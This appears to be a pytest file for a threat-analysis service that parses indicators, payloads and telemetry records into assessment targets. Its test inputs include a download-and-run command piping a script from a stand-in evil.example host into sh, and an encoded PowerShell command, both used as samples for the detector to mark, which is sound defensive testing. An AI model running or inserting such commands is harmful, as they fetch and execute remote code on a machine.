"""Targets: what a text is, and that it is what its sender says; payloads by their bytes, telemetry by its fields."""

import asyncio
import base64
import hashlib
import string

import pytest

from cybervault.assessments.targets import (
    OBSERVABLES_MAX,
    PAYLOAD_BYTES_MAX,
    Handed,
    TargetType,
    canonical_text,
    read_payload,
    read_record,
    read_target,
)
from cybervault.domain.assessments import Sort, Target
from cybervault.domain.observables import TEXT_CHARACTERS_MAX, Kind, Observable
from cybervault.domain.problems import Problem, ProblemKind
from tests.fakes.threats import SEED

MD5, SHA256 = "44d88612fea8a8f36de82e1278abb02f", "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"
# Only the words inside the test file, which no scanner takes for the file.
EICAR_WORDS = "EICAR-STANDARD-ANTIVIRUS-TEST-FILE"


def refused(caught: pytest.ExceptionInfo[Problem]) -> tuple[ProblemKind, str]:
    return caught.value.kind, caught.value.code


def payload_of(raw: bytes) -> Target:
    return Target(Sort.PAYLOAD, "payload", hashlib.sha256(raw).hexdigest())


def data_url(raw: bytes, head: str = "data:application/octet-stream;base64") -> str:
    return f"{head},{base64.b64encode(raw).decode()}"


class TestIndicators:
    @pytest.mark.parametrize(
        ("text", "declared", "kind", "value"),
        [
            ("203.0.113[.]42", TargetType.IP, "ipv4", "203.0.113.42"),
            ("2001:DB8::1", TargetType.IP, "ipv6", "2001:db8::1"),
            (MD5.upper(), TargetType.HASH, "md5", MD5),
            (SHA256, TargetType.HASH, "sha256", SHA256),
            ("hxxps://Evil[.]example/x", TargetType.URL, "url", "https://evil.example/x"),
            ("Evil.Example", TargetType.DOMAIN, "domain", "evil.example"),
        ],
    )
    @pytest.mark.parametrize("is_declared", [True, False])
    def test_a_text_that_is_one_observable_is_that_observable(
        self, text: str, declared: TargetType, kind: str, value: str, *, is_declared: bool
    ) -> None:
        reading = read_target(text, declared if is_declared else None)
        assert reading.target == Target(Sort.INDICATOR, kind, value)
        assert reading.observables == (Observable(Kind(kind), value),)
        assert (reading.identity, reading.telemetry) == (None, None)

    @pytest.mark.parametrize(
        ("text", "declared"),
        [
            ("evil.example", TargetType.IP),
            ("203.0.113.42", TargetType.DOMAIN),
            ("evil.example", TargetType.URL),
            ("203.0.113.0/24", TargetType.IP),
            ("not a hash", TargetType.HASH),
            (f"https://evil.example/{'x' * TEXT_CHARACTERS_MAX}", TargetType.URL),
        ],
    )
    def test_what_is_not_of_its_declared_type_is_refused_by_name(self, text: str, declared: TargetType) -> None:
        with pytest.raises(Problem, match=f"is no {declared}, as target_type says") as caught:
            read_target(text, declared)
        assert refused(caught) == (ProblemKind.INVALID, "invalid_parameter")
        assert caught.value.details == (("target", f"is no {declared}, as target_type says"),)
        assert text not in str(caught.value)

    @pytest.mark.parametrize("text", ["", " \t\r\n"])
    @pytest.mark.parametrize("declared", [None, *TargetType])
    def test_nothing_is_no_target(self, text: str, declared: TargetType | None) -> None:
        with pytest.raises(Problem, match="target must not be empty") as caught:
            read_target(text, declared)
        assert refused(caught) == (ProblemKind.INVALID, "invalid_parameter")


class TestPayloads:
    def test_a_text_that_is_no_observable_is_a_payload_known_by_its_hash(self) -> None:
        text = "curl http://evil.example/a.sh | sh\n# 203.0.113.42"
        reading = read_target(text)
        assert reading.target == payload_of(text.encode())
        assert reading.observables == (
            Observable(Kind.SHA256, reading.target.value),
            Observable(Kind.URL, "http://evil.example/a.sh"),
            Observable(Kind.IPV4, "203.0.113.42"),
        )
        assert "download_cradle" in {mark.name for mark in reading.marks}
        assert reading.warnings == ()

    def test_an_observable_that_is_declared_a_payload_is_one(self) -> None:
        reading = read_target("203.0.113.42", TargetType.PAYLOAD)
        assert reading.target == payload_of(b"203.0.113.42")
        assert reading.observables[1:] == (Observable(Kind.IPV4, "203.0.113.42"),)

    def test_the_words_of_the_test_file_and_an_encoded_command_are_marked(self) -> None:
        marks = {mark.name for mark in read_target(f"X {EICAR_WORDS}").marks}
        assert marks == {"eicar_test_file"}
        marks = {mark.name for mark in read_target(f"powershell -enc {'QUJD' * 8}").marks}
        assert marks == {"encoded_command"}

    def test_a_data_url_with_base64_is_its_bytes(self) -> None:
        raw = b"\x7fELF\x02\x01\x01\x00" + bytes(range(256))
        for declared in (None, TargetType.PAYLOAD):
            reading = read_target(data_url(raw), declared)
            assert reading.target == payload_of(raw)
            assert reading.identity is not None
            assert reading.identity.name == "Linux program (ELF)"
        assert read_target(data_url(raw, "data:;base64") + " \n").target == payload_of(raw)

    @pytest.mark.parametrize("data", ["!!!!", "QUJ", "QU JD", "QUJD\u00e9", "=QUJ"])
    def test_broken_base64_is_refused(self, data: str) -> None:
        with pytest.raises(Problem, match="base64 is broken") as caught:
            read_target(f"data:text/plain;base64,{data}")
        assert refused(caught) == (ProblemKind.INVALID, "invalid_parameter")

    @pytest.mark.parametrize("text", ["data:text/plain,hello", "data:;base64", "see data:;base64,QUJD", "a, b"])
    def test_another_text_with_a_comma_is_taken_as_it_is(self, text: str) -> None:
        assert read_target(text).target == payload_of(text.encode())

    def test_a_payload_of_one_mebibyte_is_read_and_one_byte_more_is_refused(self) -> None:
        raw = bytes(PAYLOAD_BYTES_MAX)
        assert read_payload(raw).target == payload_of(raw)
        with pytest.raises(Problem, match="1024 KiB") as caught:
            read_payload(raw + b"\0")
        assert refused(caught) == (ProblemKind.TOO_LARGE, "payload_too_large")
        with pytest.raises(Problem) as caught:
            read_target("\u00f1" * (PAYLOAD_BYTES_MAX // 2 + 1))
        assert refused(caught) == (ProblemKind.TOO_LARGE, "payload_too_large")

    def test_of_very_many_observables_the_first_are_assessed_and_the_cut_is_told(self) -> None:
        names = [f"host{number}.example" for number in range(OBSERVABLES_MAX + 1)]
        whole, cut = read_target("\n".join(names[:-1])), read_target("\n".join(names))
        assert whole.observables[1:] == cut.observables[1:]
        assert len(whole.observables) == OBSERVABLES_MAX + 1
        assert whole.warnings == ()
        (warning,) = cut.warnings
        assert str(OBSERVABLES_MAX) in warning


class TestAside:
    @pytest.mark.parametrize("length", [10, 5_000])
    async def test_a_text_of_any_length_is_read_as_directly(self, length: int) -> None:
        text = f"{'x' * length} http://evil.example/ {EICAR_WORDS}"
        assert await Handed(text).read() == read_target(text)
        assert await Handed("203.0.113.42", TargetType.IP).read() == read_target("203.0.113.42")

    @pytest.mark.parametrize("length", [10, 5_000])
    async def test_what_is_refused_directly_is_refused_aside(self, length: int) -> None:
        with pytest.raises(Problem) as caught:
            await Handed("x" * length, TargetType.IP).read()
        assert refused(caught) == (ProblemKind.INVALID, "invalid_parameter")

    async def test_a_record_is_read_as_directly(self) -> None:
        handed = Handed(kind="endpoint_telemetry", record=SEED["payload"])  # type: ignore[arg-type] # a JSON object
        assert await handed.read() == read_record("endpoint_telemetry", SEED["payload"])  # type: ignore[arg-type] # same

    async def test_others_are_answered_while_a_long_text_is_looked_through(self) -> None:
        turns = 0
        async with asyncio.TaskGroup() as group:
            task = group.create_task(Handed(f"{string.ascii_letters}. " * 15_000).read())
            while not task.done():
                await asyncio.sleep(0)
                turns += 1
        assert task.result().target.sort is Sort.PAYLOAD
        assert turns > 2


class TestRecords:
    def test_the_printed_sample_is_read_with_a_word_on_its_odd_hash(self) -> None:
        reading = read_record(str(SEED["type"]), SEED["payload"])  # type: ignore[arg-type] # a JSON object
        assert (reading.target.sort, reading.target.kind) == (Sort.TELEMETRY, "endpoint_telemetry")
        assert reading.observables == (Observable(Kind.IPV4, "198.51.100.42"),)
        assert reading.telemetry is not None
        assert reading.telemetry.process_name == "svchost.exe"
        assert any("hash_sha256" in warning for warning in reading.warnings)

    def test_all_that_took_part_is_looked_at_once_hashes_first(self) -> None:
        payload = {
            "md5": MD5,
            "url": "https://evil.example/x",
            "domain": "evil.example",
            "connections": [{"dst_ip": ip, "port": port} for ip in ("203.0.113.42", "2001:db8::1") for port in (1, 2)],
        }
        assert read_record("endpoint_telemetry", payload).observables == (
            Observable(Kind.MD5, MD5),
            Observable(Kind.IPV4, "203.0.113.42"),
            Observable(Kind.IPV6, "2001:db8::1"),
            Observable(Kind.DOMAIN, "evil.example"),
            Observable(Kind.URL, "https://evil.example/x"),
        )

    def test_the_same_record_is_the_same_target_in_whatever_order_its_fields_come(self) -> None:
        one = read_record("network_traffic", {"dst_ip": "203.0.113.42", "port": 443})
        same = read_record("network_traffic", {"port": 443, "dst_ip": "203.0.113.42"})
        assert one == same
        others = [
            read_record("network_traffic", {"dst_ip": "203.0.113.42", "port": 444}),
            read_record("endpoint_telemetry", {"dst_ip": "203.0.113.42", "port": 443}),
        ]
        assert one.target.value not in {other.target.value for other in others}

    @pytest.mark.parametrize(
        ("kind", "payload", "field"),
        [("nonsense", {}, "type"), ("network_traffic", {"dst_ip": "x"}, "payload.dst_ip")],
    )
    def test_a_malformed_record_is_refused_by_the_name_of_the_field(
        self, kind: str, payload: dict[str, object], field: str
    ) -> None:
        with pytest.raises(Problem) as caught:
            read_record(kind, payload)
        assert refused(caught) == (ProblemKind.INVALID, "invalid_parameter")
        assert caught.value.details[0][0] == field


@pytest.mark.parametrize(
    ("text", "kept"),
    [("203[.]0[.]113[.]42", "203.0.113.42"), ("EXAMPLE.com", "example.com"), ("no such thing", "no such thing")],
)
def test_a_target_is_named_as_it_is_kept(text: str, kept: str) -> None:
    assert canonical_text(text) == kept


def test_no_target_is_named() -> None:
    assert canonical_text(None) is None
